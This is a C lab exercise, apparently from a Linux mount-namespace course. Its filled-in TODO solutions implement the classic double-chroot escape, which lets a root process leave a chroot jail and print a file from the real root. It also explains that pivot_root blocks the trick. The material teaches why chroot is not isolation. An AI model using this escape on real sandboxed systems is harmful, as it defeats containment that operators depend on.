/*
 * Out of a chroot
 *
 * Goal:   As root inside a chroot, print FILE of the real root: what chroot(2)
 *         moves is one name of one process, and it can be moved on.
 * Man:    chroot(2) chdir(2) path_resolution(7) pivot_root(2)
 * Run:    escape FILE
 * Expect: in a chroot, the outside's FILE; after pivot_root, only an error.
 * Read:   docs/mnt/05_escape.md
 */
#define _GNU_SOURCE
#include <err.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define SECOND "second-root"

/* The top of the tree is the one directory that is its own parent. */
static int at_the_top(void)
{
	struct stat here, parent;

	if (stat(".", &here) < 0 || stat("..", &parent) < 0)
		err(1, "stat");
	return here.st_dev == parent.st_dev && here.st_ino == parent.st_ino;
}

static void print(const char *path)
{
	char buffer[4096];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		err(1, "%s", path);
	while ((n = read(fd, buffer, sizeof(buffer))) > 0)
		if (write(STDOUT_FILENO, buffer, n) != n)
			err(1, "write");
	if (n < 0)
		err(1, "%s", path);
}

int main(int argc, char *argv[])
{
	if (argc != 2) {
		fprintf(stderr, "usage: escape FILE\n");
		return 2;
	}
	if (chdir("/") < 0)
		err(1, "chdir /");

	/*
	 * The kernel stops ".." at the root directory of the process, and
	 * nowhere else. So stand somewhere that is not below the root.
	 */
	/* TODO(1): move the root below where you stand; see chroot(2) */
	if (mkdir(SECOND, 0700) < 0 && errno != EEXIST)
		err(1, "mkdir " SECOND);
	if (chroot(SECOND) < 0)
		err(1, "chroot " SECOND);
	/* END(1) */

	/* Leave the jail as it was. The name still leads from where we are. */
	rmdir(SECOND);

	while (!at_the_top()) {
		/* TODO(2): one step up with chdir(2) */
		if (chdir("..") < 0)
			err(1, "chdir ..");
		/* END(2) */
	}

	/* FILE is looked up from the root, and that is still the wrong one. */
	/* TODO(3): make this directory the root with chroot(2) */
	if (chroot(".") < 0)
		err(1, "chroot .");
	/* END(3) */

	print(argv[1]);
	return 0;
}
